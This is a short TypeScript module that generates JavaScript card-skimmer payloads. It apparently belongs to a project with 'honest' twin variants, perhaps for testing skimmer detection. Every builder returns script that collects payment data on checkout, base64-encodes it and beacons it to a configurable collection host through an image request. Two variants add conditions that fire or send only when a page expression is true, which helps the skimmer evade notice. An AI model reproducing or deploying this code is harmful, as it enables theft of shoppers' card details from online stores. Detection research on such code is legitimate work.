import { ON_PAY, type SkimmerVariant, takeCode } from './types.ts';

/** Code that steals, or in the twin sends what the shop sells, to one host. */
export const core = (collect: string, honest: boolean) =>
  `(() => { ${takeCode(honest)} function send() { new Image().src = '${collect}/i.gif?d=' + btoa(JSON.stringify(take())); } ${ON_PAY} })();`;

/** A thief that acts only when an expression is true in the page. */
export function onlyWhen(id: string, idea: string, condition: string): SkimmerVariant {
  return { id, idea, takes: ['card'], build: ({ collect }, honest) => ({ script: `if (${condition}) { ${core(collect, honest)} }` }) };
}

/** A thief that is always there and, each time before it sends, asks whether it may. `before`: code that it prepares with. */
export function sendsOnlyWhen(id: string, idea: string, condition: string, before = ''): SkimmerVariant {
  return {
    ...{ id, idea, takes: ['card'] },
    build: ({ collect }, honest) => ({
      script: `(() => { ${takeCode(honest)} ${before} function send() { if (!(${condition})) return; new Image().src = '${collect}/i.gif?d=' + btoa(JSON.stringify(take())); } ${ON_PAY} })();`,
    }),
  };
}
